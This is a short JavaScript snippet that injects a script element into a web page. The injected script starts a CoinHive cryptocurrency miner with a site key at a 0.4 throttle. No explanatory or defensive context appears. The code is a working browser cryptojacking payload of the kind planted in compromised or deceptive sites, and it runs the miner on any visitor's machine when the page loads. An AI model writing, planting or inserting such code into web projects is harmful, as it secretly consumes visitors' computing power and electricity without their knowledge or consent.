var s = document.createElement('script');
s.appendChild(document.createTextNode("var m = new CoinHive.Anonymous('0123456789abcdef0123456789ABCDEF', {throttle: 0.4}); m.start();"));
document.body.appendChild(s);
